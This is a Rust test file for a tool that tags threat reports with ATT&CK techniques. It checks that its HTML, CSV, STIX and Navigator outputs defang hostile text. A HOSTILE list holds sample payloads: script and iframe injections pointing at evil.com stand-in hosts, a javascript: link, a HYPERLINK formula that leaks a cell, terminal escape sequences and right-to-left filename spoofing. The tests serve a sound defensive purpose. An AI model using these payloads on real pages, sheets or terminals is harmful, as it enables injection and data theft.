#![allow(missing_docs)]

use super::*;
use crate::{Candidate, Judgement, LabelChange, Recogniser, Similar, Technique};
use std::collections::BTreeSet;
use ttp_documents::{Block, Document, Format, Kind, Sentence};

const STIX: &str = "attack-pattern--7385dfaf-6886-4229-9ecd-6fd678040830";

fn sentence(block: usize, start: usize, text: &str) -> Sentence {
    Sentence { block, start, end: start + text.chars().count(), text: text.to_owned() }
}

fn judged(sentence: Sentence, evidence: bool, candidates: &[(&str, f64)]) -> Judgement {
    let all: f64 = candidates.iter().map(|(_, probability)| probability).sum();
    let candidates = candidates.iter().map(|(technique, probability)| Candidate {
        technique: (*technique).to_owned(),
        probability: *probability,
    });
    Judgement {
        sentence,
        evidence,
        none: 1.0 - all,
        candidates: candidates.collect(),
        similar: Vec::new(),
        accepted: None,
        corrected: None,
    }
}

fn block(page: Option<u32>, kind: Kind, text: &str) -> Block {
    Block { page, kind, text: text.to_owned() }
}

/// Two documents, three techniques: one of them in both, one a sub-technique.
pub(crate) fn sample() -> Report {
    let one = "The actor ran encoded PowerShell.";
    let two = "It then fetched http://evil.example.com/a.ps1 from 203.0.113.9.";
    let three = "Analysts named the family after a river.";
    let other = "The loader starts powershell.exe with a hidden window.";
    let paragraph = format!("{one} {two} {three}");
    let mut near = judged(sentence(1, one.len() + two.len() + 2, three), false, &[("T1036", 0.2)]);
    near.similar = vec![Similar {
        technique: "T1583".to_owned(),
        cosine: 0.41,
        sentence: "Adversaries may name infrastructure after places.".to_owned(),
        unknown_to_model: true,
    }];
    let documents = vec![
        Read {
            document: Document {
                name: "river report.pdf".to_owned(),
                format: Format::Pdf,
                sha256: "ab".repeat(32),
                blocks: vec![
                    block(Some(1), Kind::Heading, "River: what it does"),
                    block(Some(1), Kind::Prose, &paragraph),
                    block(Some(2), Kind::Indicators, "evil.example.com 203.0.113.9"),
                    block(Some(2), Kind::Indicators, "d41d8cd98f00b204e9800998ecf8427e"),
                ],
                notes: vec!["page 3 has no text: it may be a picture".to_owned()],
            },
            sentences: vec![
                judged(sentence(1, 0, one), true, &[("T1059.001", 0.93), ("T1027", 0.05)]),
                judged(sentence(1, one.len() + 1, two), true, &[("T1105", 0.71), ("T1071", 0.2)]),
                near,
            ],
        },
        Read {
            document: Document {
                name: "notes.txt".to_owned(),
                format: Format::Text,
                sha256: "cd".repeat(32),
                blocks: vec![block(None, Kind::Prose, other)],
                notes: Vec::new(),
            },
            sentences: vec![judged(sentence(0, 0, other), true, &[("T1059.001", 0.66)])],
        },
    ];
    let technique =
        |id: &str, name: &str, stix_id: &str, tactic: &str, probability, evidence| Technique {
            technique: id.to_owned(),
            name: name.to_owned(),
            stix_id: stix_id.to_owned(),
            tactics: vec![tactic.to_owned()],
            probability,
            evidence,
        };
    let both = vec![(0, 0), (1, 0)];
    let names = [("T1027", "Obfuscated Files or Information"), ("T1583", "Acquire Infrastructure")];
    Report {
        version: crate::VERSION,
        created: "2026-03-01T09:30:00Z".to_owned(),
        model: Recogniser {
            name: "both".to_owned(),
            labels: ["T1027", "T1059.001", "T1105"].map(str::to_owned).to_vec(),
            attack_version: "15.1".to_owned(),
            precision: 0.8,
            threshold: 0.62,
            measured_precision: 0.81,
            measured_recall: 0.63,
        },
        documents,
        techniques: vec![
            technique(
                "T1059.001",
                "PowerShell",
                "attack-pattern--970a3432-3237-47ad-bcca-7d8cbb217736",
                "execution",
                0.93,
                both,
            ),
            technique(
                "T1105",
                "Ingress Tool Transfer",
                STIX,
                "command-and-control",
                0.71,
                vec![(0, 1)],
            ),
        ],
        label_changes: vec![LabelChange {
            from: "T1086".to_owned(),
            to: Some("T1059.001".to_owned()),
            why: "revoked".to_owned(),
        }],
        names: names.map(|(id, name)| (id.to_owned(), name.to_owned())).into(),
    }
}

/// A report of which every text is this one.
fn hostile(text: &str) -> Report {
    let mut report = sample();
    let say = |field: &mut String| *field = text.to_owned();
    for read in &mut report.documents {
        say(&mut read.document.name);
        read.document.notes = vec![text.to_owned()];
        for block in &mut read.document.blocks {
            say(&mut block.text);
        }
        for judgement in &mut read.sentences {
            say(&mut judgement.sentence.text);
            judgement.sentence.start = 0;
            judgement.sentence.end = text.chars().count();
            judgement.similar.iter_mut().for_each(|near| {
                say(&mut near.sentence);
                say(&mut near.technique);
            });
            judgement.candidates.iter_mut().skip(1).for_each(|one| say(&mut one.technique));
        }
    }
    for technique in &mut report.techniques {
        say(&mut technique.name);
        say(&mut technique.stix_id);
        technique.tactics = vec![text.to_owned()];
    }
    report.label_changes.iter_mut().for_each(|change| say(&mut change.why));
    say(&mut report.model.name);
    say(&mut report.model.attack_version);
    report
}

const HOSTILE: [&str; 12] = [
    "<script>alert('x')</script>",
    "</style><script src=//evil.example.com/x.js></script>",
    "\"><img src=http://evil.example.com/x.png onerror=alert(1)>",
    "</span></summary></details></div></main><iframe src=http://evil.com>",
    "]]></title><a href=\"javascript:alert(1)\">here</a><!-- --> <![CDATA[",
    "&lt;b&gt; &amp; &#60;script&#62; &",
    "=HYPERLINK(\"http://evil.com/?\"&A1,\"click\")",
    "\u{1b}[2J\u{1b}]8;;http://evil.com\u{7}click\u{1b}]8;;\u{7}\u{9b}31m",
    "invoice\u{202e}fdp.exe \u{2066}a\u{2069} z\u{200b}ero",
    "one\0two\r\nthree\tfour\u{b}\u{c}\u{85}\u{2028}five\u{fffe}",
    "It fetched https://evil.com/a.sh from 203.0.113.9 and mailed me@evil.ru.",
    "",
];

fn no_live_address(shown: &str) {
    let shown = shown.to_lowercase();
    for address in ["http://", "evil.", "javascript:", "203.0", "me@"] {
        assert!(!shown.contains(address), "{address} in {shown:.400}");
    }
    let control = |c: char| c != '\n' && (c.is_control() || ('\u{2028}'..='\u{202e}').contains(&c));
    assert!(!shown.contains(control), "{:?}", shown.find(control));
}

/// The names of the page's elements and attributes.
fn names(page: &str) -> BTreeSet<String> {
    let (_, page) = page.split_once('\n').unwrap();
    let document = roxmltree::Document::parse(page).unwrap();
    let elements = document.descendants().filter(roxmltree::Node::is_element);
    elements
        .flat_map(|element| {
            let attributes = element.attributes().map(|a| format!("@{}", a.name()));
            let own = [element.tag_name().name().to_owned()];
            attributes.chain(own).collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn a_terminal_has_a_line_for_each_technique() {
    let text = table(&sample());
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "river report.pdf and 1 more");
    assert!(lines[3].starts_with("T1059.001  PowerShell"), "{text}");
    assert!(
        lines[3].contains("2        0.930  The actor ran encoded PowerShell. (river"),
        "{text}"
    );
    assert!(lines[4].contains("hxxp://evil[.]example[.]com/a.ps1"), "{text}");
    assert!(text.contains("3 of 4 sentences of prose show a technique. On the model's"), "{text}");
    assert!(text.contains("note: river report.pdf: page 3 has no text"), "{text}");
    assert!(text.ends_with("T1086 → T1059.001: revoked\n"), "{text}");
    let mut silent = sample();
    silent.techniques.clear();
    assert!(table(&silent).starts_with("river report.pdf and 1 more: no sentence shows"));
    for text in HOSTILE {
        no_live_address(&table(&hostile(text)));
    }
}

#[test]
fn the_schema_is_the_committed_one() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schema.json");
    let expected = serde_json::to_string_pretty(&schema()).unwrap() + "\n";
    // To write it anew: TTP_WRITE_SCHEMA=1 cargo test -p ttp-report schema
    if std::env::var_os("TTP_WRITE_SCHEMA").is_some() {
        files::write_text(&path, &expected).unwrap();
    }
    assert!(std::fs::read_to_string(path).unwrap() == expected, "schema.json is not schema()");
}

#[test]
fn a_report_follows_its_schema() {
    let schema = schema();
    assert!(jsonschema::meta::is_valid(&schema));
    let validator = jsonschema::validator_for(&schema).unwrap();
    for report in HOSTILE.map(hostile).into_iter().chain([sample()]) {
        let json = serde_json::to_value(&report).unwrap();
        let errors: Vec<String> = validator.iter_errors(&json).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(serde_json::from_value::<Report>(json).unwrap(), report);
    }
    let mut wrong = serde_json::to_value(sample()).unwrap();
    wrong["documents"][0]["sentences"][0]["none"] = "much".into();
    assert!(!validator.is_valid(&wrong));
}

#[test]
fn a_report_of_before_has_a_time_and_no_names() {
    let mut json = serde_json::to_value(sample()).unwrap();
    let fields = json.as_object_mut().unwrap();
    fields.remove("created");
    fields.remove("names");
    let report: Report = serde_json::from_value(json).unwrap();
    assert_eq!((report.created.as_str(), report.names.len()), ("1970-01-01T00:00:00Z", 0));
}

#[test]
fn a_sheet_has_a_row_for_each_sentence() {
    let text = sheet::sheet(&sample()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], COLUMNS.join(","));
    assert_eq!(lines.len(), 5);
    let own = crate::id::of_report(&sample()).short();
    assert_eq!(
        lines[1],
        format!(
            "{own},0,0,river report.pdf,page 1,The actor ran encoded PowerShell.,yes,T1059.001,\
             PowerShell,0.930,0.020,T1027 0.050,,"
        )
    );
    assert!(lines[4].starts_with(&format!("{own},1,0,notes.txt,paragraph 1,The loader")));
    // No cell begins as a formula does.
    let text = sheet::sheet(&hostile("=1+1")).unwrap();
    assert!(text.contains(",'=1+1,yes,") && !text.contains(",=1+1"), "{text}");
}

#[test]
fn a_layer_has_scores_and_comments() {
    let report = sample();
    let layer = layer(&report, &report.techniques, Score::Probability);
    assert_eq!(layer["versions"]["layer"], "4.5");
    assert_eq!(layer["versions"]["attack"], "15");
    assert_eq!(
        (&layer["gradient"]["minValue"], &layer["gradient"]["maxValue"]),
        (&62.0.into(), &100.0.into())
    );
    let first = &layer["techniques"][0];
    assert_eq!((&first["techniqueID"], &first["score"]), (&"T1059.001".into(), &93.0.into()));
    assert_eq!(
        first["comment"],
        "river report.pdf, page 1, probability 0.93: The actor ran encoded PowerShell.\n\nnotes.txt, \
         paragraph 1, probability 0.66: The loader starts powershell.exe with a hidden window."
    );
    let comment = layer["techniques"][1]["comment"].as_str().unwrap();
    assert!(comment.contains("hxxp://evil[.]example[.]com/a.ps1 from 203[.]0[.]113[.]9"));
    // A technique with many sentences quotes some and counts the rest.
    let mut many = report.clone();
    many.techniques[0].evidence = vec![(0, 0); 11];
    let layer = super::layer(&many, &many.techniques, Score::Probability);
    let comment = layer["techniques"][0]["comment"].as_str().unwrap();
    assert!(comment.ends_with("… and 3 sentences more"), "{comment}");
}

#[test]
fn a_bundle_keeps_mitres_ids() {
    let report = sample();
    let bundle = stix::bundle(&report);
    assert_eq!(bundle, stix::bundle(&report), "the same report gives the same bundle");
    let objects = bundle["objects"].as_array().unwrap();
    let of = |kind: &str| -> Vec<&Value> {
        objects.iter().filter(|object| object["type"] == kind).collect()
    };
    assert_eq!(of("attack-pattern").len(), 2);
    assert_eq!(of("attack-pattern")[1]["id"], STIX);
    assert_eq!(of("attack-pattern")[0]["external_references"][0]["external_id"], "T1059.001");
    let notes = of("note");
    assert_eq!(notes.len(), 3);
    assert_eq!(notes[2]["object_refs"], serde_json::json!([STIX]));
    assert_eq!(notes[2]["confidence"], 71);
    assert_eq!(of("report")[0]["object_refs"].as_array().unwrap().len(), 5);
    assert_eq!(of("report")[0]["published"], report.created);
    // Every id is there once, and every reference leads to one of them.
    let ids: BTreeSet<&str> = objects.iter().map(|o| o["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), objects.len());
    for object in objects {
        let refs = object["object_refs"].as_array().into_iter().flatten();
        for id in refs.chain(object.get("created_by_ref")) {
            assert!(ids.contains(id.as_str().unwrap()), "{id}");
        }
    }
    // Another run is another report; MITRE's objects and the tool stay.
    let later = Report { created: "2026-03-02T09:30:00Z".to_owned(), ..report };
    let later = stix::bundle(&later);
    let again = later["objects"].as_array().unwrap().iter();
    let same = again.filter(|object| ids.contains(object["id"].as_str().unwrap()));
    assert_eq!(same.count(), 4, "the tool, MITRE, two techniques");
    // No technique: a report all the same, which refers to something.
    let mut silent = sample();
    silent.techniques.clear();
    let silent = stix::bundle(&silent);
    assert_eq!(silent["objects"].as_array().unwrap().len(), 2);
}

#[test]
fn what_other_tools_show_is_defanged() {
    for text in HOSTILE {
        let report = hostile(text);
        let layer = layer(&report, &report.techniques, Score::Probability);
        for shown in [layer, stix::bundle(&report)] {
            let mut texts = Vec::new();
            strings(&shown, &mut texts);
            for text in
                texts.into_iter().filter(|text| !text.starts_with("https://attack.mitre.org/"))
            {
                // A layer's comments are paragraphs.
                no_live_address(&text);
                assert!(!text.contains("https://"), "{text}");
            }
        }
    }
}

fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Value::Object(fields) => fields.values().for_each(|field| strings(field, out)),
        _ => {}
    }
}

#[test]
fn a_page_marks_sentences() {
    let page = page(&sample());
    let (_, xml) = page.split_once('\n').unwrap();
    let document = roxmltree::Document::parse(xml).unwrap();
    let marks: Vec<(&str, &str)> = document
        .descendants()
        .filter(|node| node.attribute("class").is_some_and(|class| class.starts_with("mark ")))
        .map(|node| (node.attribute("class").unwrap(), node.attribute("data-technique").unwrap()))
        .collect();
    assert_eq!(
        marks,
        [
            ("mark sure", "T1059.001"),
            ("mark likely", "T1105"),
            ("mark near", "T1583"),
            ("mark likely", "T1059.001")
        ]
    );
    let text = |class: &str| -> Vec<String> {
        let found = document.descendants().filter(|node| node.attribute("class") == Some(class));
        let text = |node: roxmltree::Node<'_, '_>| {
            node.descendants().filter(|n| n.is_text()).filter_map(|n| n.text()).collect::<String>()
        };
        found.map(text).collect()
    };
    assert_eq!(
        text("sentence"),
        [
            "The actor ran encoded PowerShell.",
            "It then fetched hxxp://evil[.]example[.]com/a.ps1 from 203[.]0[.]113[.]9.",
            "Analysts named the family after a river.",
            "The loader starts powershell.exe with a hidden window."
        ]
    );
    assert_eq!(text("kind"), ["Indicators, not read (2 blocks)"]);
    assert_eq!(text("page"), ["Page 1", "Page 2"]);
    assert_eq!(text("note").len(), 1);
    assert!(text("panel")[0].starts_with("T1059.001 PowerShell 0.93T1027 Obfuscated Files"));
    assert!(page.contains("cosine 0.41"));
    // What a reviewer said is seen.
    let mut reviewed = sample();
    reviewed.documents[0].sentences[0].accepted = Some(true);
    reviewed.documents[0].sentences[1].accepted = Some(false);
    reviewed.documents[0].sentences[2].corrected = Some("T1027".to_owned());
    let page = super::page(&reviewed);
    for chip in [">accepted T1059.001 0.93<", ">rejected T1105 0.71<", ">corrected T1027 0.00<"] {
        assert!(page.contains(chip), "{chip}");
    }
}

#[test]
fn a_page_runs_its_own_script_alone() {
    let page = page(&sample());
    let between = |from: &str, to: &str| {
        let start = page.find(from).unwrap() + from.len();
        &page[start..start + page[start..].find(to).unwrap()]
    };
    for (element, directive) in [("style", "style-src"), ("script", "script-src")] {
        let content = between(&format!("<{element}>"), &format!("</{element}>"));
        use base64::Engine;
        let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(content));
        assert!(page.contains(&format!("{directive} 'sha256-{hash}'")), "{directive}");
    }
    assert!(page.contains("default-src 'none'") && !page.contains("unsafe-inline"));
}

#[test]
fn hostile_texts_are_text_on_a_page() {
    let ordinary = names(&page(&sample()));
    assert!(!ordinary.contains("@style") && !ordinary.contains("@src"));
    for text in HOSTILE {
        let page = page(&hostile(text));
        let own = [STYLES_AND_SCRIPT.0, STYLES_AND_SCRIPT.1];
        let told = own.iter().fold(page.clone(), |page, own| page.replace(own, ""));
        no_live_address(&told);
        assert!(!told.contains("https://"), "{text}");
        let found = names(&page);
        assert!(found.is_subset(&ordinary), "{text}: {:?}", found.difference(&ordinary));
        let (_, xml) = page.split_once('\n').unwrap();
        let document = roxmltree::Document::parse(xml).unwrap();
        for link in document.descendants().filter_map(|node| node.attribute("href")) {
            assert!(link.starts_with("#d"), "{link}");
        }
    }
}

const STYLES_AND_SCRIPT: (&str, &str) = (include_str!("page.css"), include_str!("page.js"));

/// Wherever sentences begin and end, and whatever they are made of: the text of a paragraph is the
/// whole block, defanged as a whole.
#[test]
fn no_cut_makes_an_address_whole() {
    let parts = [
        "http://",
        "evil.com",
        "<b>",
        " ",
        "203.0.113.9",
        "me@",
        "x.ru",
        ".",
        "com",
        "\u{202e}",
        "a",
        "://",
        "javascript:",
        "&amp;",
        "\"",
        " and ",
        "字",
        "]]>",
        "evil.",
        "h",
    ];
    // A linear congruential generator: the same texts each time.
    let mut state = 7_u64;
    let mut next = |below: usize| {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below
    };
    for _ in 0..400 {
        let text: String = (0..12).map(|_| parts[next(parts.len())]).collect();
        let length = text.chars().count();
        let mut report = sample();
        report.documents.truncate(1);
        report.documents[0].document.blocks[1].text = text.clone();
        for judgement in &mut report.documents[0].sentences {
            judgement.sentence.start = next(length + 3);
            judgement.sentence.end = next(length + 3);
        }
        let page = page(&report);
        let (_, xml) = page.split_once('\n').unwrap();
        let document = roxmltree::Document::parse(xml).unwrap();
        let block = document.descendants().find(|n| n.attribute("class") == Some("prose")).unwrap();
        let beside = |node: &roxmltree::Node<'_, '_>| {
            let class = |n: roxmltree::Node<'_, '_>| {
                matches!(n.attribute("class"), Some("chip" | "panel" | "sentence own"))
            };
            node.ancestors().any(class)
        };
        let shown: String = block
            .descendants()
            .filter(|n| n.is_text() && !beside(n))
            .filter_map(|n| n.text())
            .collect();
        let blank = |text: &str| text.split_whitespace().collect::<String>();
        assert_eq!(blank(&shown), blank(&safe(&text)), "{text:?}");
    }
}

#[test]
fn times() {
    for time in ["2026-03-01T09:30:00Z", "2024-02-29T23:59:59.123Z"] {
        assert!(is_time(time), "{time}");
    }
    for other in [
        "",
        "2026-03-01",
        "2026-03-01T09:30:00",
        "2026-13-01T09:30:00Z",
        "2026-03-01T24:30:00Z",
        "2026-03-01 09:30:00Z",
        "2026-03-01T09:30:00.Z",
        "2026-04-31T09:30:00Z",
        "2026-03-01T09:30:00+01:00Z",
    ] {
        assert!(!is_time(other), "{other}");
    }
}

#[test]
fn all_files_are_written_or_none() {
    let root = tempfile::tempdir().unwrap();
    let folder = root.path().join("out/of river");
    let names = |folder: &Path| -> BTreeSet<String> {
        let files = std::fs::read_dir(folder).unwrap();
        files.map(|file| file.unwrap().file_name().to_string_lossy().into_owned()).collect()
    };
    let paths = write(&sample(), &folder).unwrap();
    assert_eq!(paths, NAMES.map(|name| folder.join(name)));
    assert_eq!(names(&folder), NAMES.map(str::to_owned).into());
    assert_eq!(names(&root.path().join("out")).len(), 1, "nothing half-written");
    // Other files stay, ours are replaced.
    files::write_text(&folder.join("own.txt"), "mine").unwrap();
    files::write_text(&paths[0], "old").unwrap();
    write(&sample(), &folder).unwrap();
    assert_eq!(names(&folder).len(), 6);
    assert_eq!(crate::review::read(&paths[0]).unwrap(), sample());
    // What cannot be written leaves all as it was.
    let before = std::fs::read(&paths[4]).unwrap();
    let refused = |report: &Report, words: &str| {
        let error = write(report, &folder).unwrap_err().to_string();
        assert!(error.contains(words), "{error}");
        assert_eq!(std::fs::read(&paths[4]).unwrap(), before);
        assert_eq!(names(&folder).len(), 6);
    };
    let untimed = Report { created: "today".to_owned(), ..sample() };
    refused(&untimed, "\"today\" is no time");
    assert!(write(&untimed, &root.path().join("new")).is_err());
    assert!(!root.path().join("new").exists());
    let mut infinite = sample();
    infinite.documents[0].sentences[0].candidates[0].probability = f64::NAN;
    refused(&infinite, "NaN is not from 0 to 1 (document 0, sentence 0)");
    let mut unnamed = sample();
    unnamed.techniques[0].technique = "PowerShell".to_owned();
    refused(&unnamed, "\"PowerShell\" is no technique's id");
    // A document that was read has the name of an output.
    let mut own = sample();
    own.documents[0].document.sha256 =
        Sha256::digest(&before).iter().map(|b| format!("{b:02x}")).collect();
    refused(&own, "would be written over river report.pdf, which is read");
    // A file in the folder's place, a folder in a file's.
    let error = write(&sample(), &folder.join("own.txt")).unwrap_err().to_string();
    assert!(error.ends_with("own.txt: is a file, and a folder is needed"), "{error}");
    std::fs::remove_file(&paths[3]).unwrap();
    std::fs::create_dir(&paths[3]).unwrap();
    refused(&sample(), "bundle.json: is a folder, and a file is to be written there");
}
